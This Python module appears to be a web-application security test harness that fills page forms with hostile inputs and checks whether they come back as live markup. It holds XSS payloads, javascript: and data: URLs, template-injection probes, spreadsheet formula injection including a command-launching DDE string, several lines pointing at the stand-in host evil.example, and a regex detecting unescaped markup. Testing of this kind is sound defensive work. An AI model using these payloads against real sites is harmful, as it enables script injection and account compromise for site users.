"""What strangers would like to run, hide, break or steal, for every field there is.

Each of these leaves a mark if it works: `window.ran`, a dialog, a request to another host, a
line of the console, a page that is too wide.
"""

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser

MARKUP = (
    "<script>window.ran=1;alert(1)</script>",
    "<img src=x onerror=window.ran=1>",
    "\"'><svg onload=window.ran=1><style>*{display:none}</style>",
    "</title></textarea></script><script src=https://evil.example/x.js></script>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe><base href=https://evil.example/>",
    "<a href=javascript:window.ran=1 style=position:fixed;inset:0>x</a><meta http-equiv=refresh "
    "content='0;url=https://evil.example/'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
    "&lt;script&gt;window.ran=1&lt;/script&gt;&#x202e;",
)
ADDRESSES = (
    "javascript:window.ran=1//https://x.example/",
    "data:text/html,<script>window.ran=1</script>",
    "JaVa\tScRiPt:window.ran=1",
    "vbscript:x",
    "//evil.example/x",
    'https://evil.example\\@good.example/" onmouseover="window.ran=1',
    "https://evil.example/\u202egnp.exe",
)
TEMPLATES = "{{7*7}}{% raw %}${7*7}<%= 7*7 %>#{7*7}{0.__class__}%(x)s%n{name}"
FORMULAS = ('=HYPERLINK("https://evil.example")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1")
TRICKS = (
    "\u202egnp.exe\u2066 abc",
    "v\u200b\u200b\u200bay t\u2060i\u00ad\u00adề\ufeffn",
    "Z\u0338" + "\u0301\u0323" * 150 + "algo",
    "\u0627\u0644\u0633\u0644\u0627\u0645 <b>\u200f\u200e",
    "\U000e0041\U000e0042 tag \U0001f468\u200d\U0001f469\u200d\U0001f467",
)
LONG = "w" * 2_000
EVERY = (*MARKUP, *ADDRESSES, TEMPLATES, *FORMULAS, *TRICKS, LONG)


def packed(most: int, first: int = 0) -> str:
    """As many of them as fit into `most` bytes of UTF-8, beginning with one of them."""
    found = ""
    for one in EVERY[first:] + EVERY[:first]:
        if len((found + one).encode()) <= most:
            found += one
    return found


@dataclass
class Form:
    """A form on a page: where it leads, what it sends by itself, what can be typed."""

    action: str
    method: str
    sent: dict[str, str] = field(default_factory=dict)
    typed: list[str] = field(default_factory=list)
    buttons: list[tuple[str, str, str]] = field(default_factory=list)  # action, name, value

    def filled(self, words: str) -> Iterator[tuple[str, dict[str, str]]]:
        """Where and what it sends, once for each button, with `words` in all that is typed."""
        fields = self.sent | dict.fromkeys(self.typed, words)
        for action, name, value in self.buttons or [("", "", "")]:
            yield action or self.action, fields | ({name: value} if name else {})


class _Forms(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[Form] = []
        self._form: Form | None = None
        self._select = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        told = {name: value or "" for name, value in attrs}
        name = told.get("name", "")
        if tag == "form":
            self._form = Form(told.get("action", ""), told.get("method", "get").lower())
            self.found.append(self._form)
        elif self._form is None:
            return
        elif tag == "button" and told.get("type", "submit") == "submit":
            self._form.buttons.append((told.get("formaction", ""), name, told.get("value", "")))
        elif tag == "textarea" and name:
            self._form.typed.append(name)
        elif tag == "select":
            self._select = name
        elif tag == "option" and self._select and self._select not in self._form.sent:
            self._form.sent[self._select] = told.get("value", "")
        elif tag == "input" and name:
            self._input(self._form, name, told)

    def _input(self, form: Form, name: str, told: dict[str, str]) -> None:
        kind = told.get("type", "text")
        if kind in {"hidden", "number", "date", "datetime-local", "time"}:
            form.sent[name] = told.get("value", "")
        elif kind in {"radio", "checkbox"}:
            if "checked" in told or name not in form.sent:
                form.sent[name] = told.get("value", "on")
        else:
            form.typed.append(name)

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = ""


def forms_in(html: str) -> list[Form]:
    """The forms of a page."""
    parser = _Forms()
    parser.feed(html)
    return parser.found


_RAW = re.compile(
    r"<(?:iframe|object|embed|base|math|marquee|style|meta http-equiv)\b"
    r"|<(?:img|svg)\b[^>]*\bon\w+=|<script(?![^>]*\bsrc=\"/)[^>]*>|<a[^>]*href=[\"']?\s*(?:java|data:)",
    re.IGNORECASE,
)


def raw_in(html: str) -> list[str]:
    """What of it came through as markup."""
    return [html[found.start() :][:80] for found in _RAW.finditer(html)]
